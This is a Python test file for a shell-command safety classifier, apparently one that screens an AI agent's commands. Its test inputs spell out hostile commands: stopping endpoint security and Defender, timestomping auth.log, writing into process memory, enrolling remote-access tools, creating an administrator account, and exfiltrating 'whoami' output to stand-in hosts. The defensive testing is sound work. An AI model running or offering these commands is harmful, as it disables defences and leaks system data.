"""The per-command rule chain made cheaper (issue 14's speed bar, safety-sp9b).

Rule families run over every simple command may declare the programs they can apply to
(`registry.Programs`): the chain then skips them for every other program with one set
look-up. These tests pin the declaration's semantics, and that a family which declares its
programs still fires whatever way the program is reached: through wrappers (`sudo`, `nice`,
`timeout`), by a path, in another letter case, with `.exe`, through a PowerShell alias,
and under a name the rule matches by prefix; and that the argument-shape gates in front of
generic families (an unknown program's install verbs, a host name built from a command's
output) leave the verdicts as they were.
"""

from __future__ import annotations

import pytest

from aintern_ls.safety import assess
from aintern_ls.safety.registry import Programs, program_key


def _rules(command: str, shell: str = "bash") -> tuple[str, set[str]]:
    got = assess(command, shell)
    return got.level.label, {f.rule for f in got.findings}


def test_program_key_is_the_lower_case_name_without_exe() -> None:
    assert program_key("Taskkill.EXE") == "taskkill"
    assert program_key("systemctl") == "systemctl"
    # only one `.exe` comes off: a family that strips another declares `x.exe` itself
    assert program_key("AnyDesk.exe.exe") == "anydesk.exe"


def test_programs_holds_names_and_prefixes() -> None:
    p = Programs(("kill", "PKill"), "sc", prefixes=("screenconnect.",))
    assert "kill" in p and "pkill" in p and "sc" in p
    assert "screenconnect.clientservice" in p
    assert "screenconnect.clientservice" in p  # (answered again from its memo)
    assert "killall" not in p and "" not in p and "scp" not in p
    assert 3 not in p
    assert program_key("PKILL.exe") in p and program_key("frob") not in p


@pytest.mark.parametrize(
    "command,shell,level,rule",
    [
        # wrappers: the wrapped command is judged with the family's program
        ("sudo systemctl stop falcon-sensor", "bash", "critical", "disable-security"),
        ("nice -n 5 /usr/bin/pkill -9 falcond", "bash", "critical", "disable-security"),
        ("sudo touch -d '2020-01-01' /var/log/auth.log", "bash", "critical", "timestomp"),
        ("timeout 5 dd if=x of=/proc/1234/mem", "bash", "critical", "process-injection"),
        # letter case and `.exe` (cmd), an alias (PowerShell's `spps` is Stop-Process)
        ("Taskkill.EXE /F /IM MsMpEng.exe", "cmd", "critical", "disable-security"),
        ("spps -Name MsMpEng -Force", "powershell", "critical", "disable-security"),
        # a name the family strips `.exe` from twice, and one it matches by prefix
        ("AnyDesk.exe.exe --set-password", "cmd", "critical", "remote-access"),
        (
            "reg.exe.exe delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend /f",
            "cmd",
            "critical",
            "disable-security",
        ),
        # (critical since safety-debt8's one remote-access judge: the enrolment (`h=` host,
        # `k=` key) was critical in detections.py but lost to reports' moderate finding of
        # the same rule id, the first of a rule and span being kept)
        (
            'ScreenConnect.ClientService.exe "?h=relay.example&k=abc"',
            "cmd",
            "critical",
            "remote-access",
        ),
    ],
)
def test_a_family_that_declares_its_programs_still_fires(
    command: str, shell: str, level: str, rule: str
) -> None:
    got_level, rules = _rules(command, shell)
    assert got_level == level and rule in rules, (command, got_level, rules)


@pytest.mark.parametrize(
    "command,level,rule",
    [
        # an unknown program's install verbs and admin roles (generic: any program name)
        ("frob --install-service", "critical", "persistence"),
        ("frob service install", "critical", "persistence"),
        ("wp user create bob b@x.example --role=administrator", "critical", "account"),
        ("rustdesk --install-service", "critical", "remote-access"),
        # a host name built from a command's output, sent by any program
        ('finger "$(whoami)@h.example"', "critical", "exfiltration"),
        ('tool "$(whoami).x.example"', "critical", "exfiltration"),
    ],
)
def test_generic_families_behind_argument_gates_still_fire(
    command: str, level: str, rule: str
) -> None:
    got_level, rules = _rules(command)
    assert got_level == level and rule in rules, (command, got_level, rules)


def test_commands_no_family_applies_to_stay_as_they_were() -> None:
    assert _rules("frob list") == ("moderate", {"unknown-command"})
    assert _rules("call :l1") == ("moderate", {"unknown-command"})
    assert _rules("ls -la /tmp") == ("safe", set())
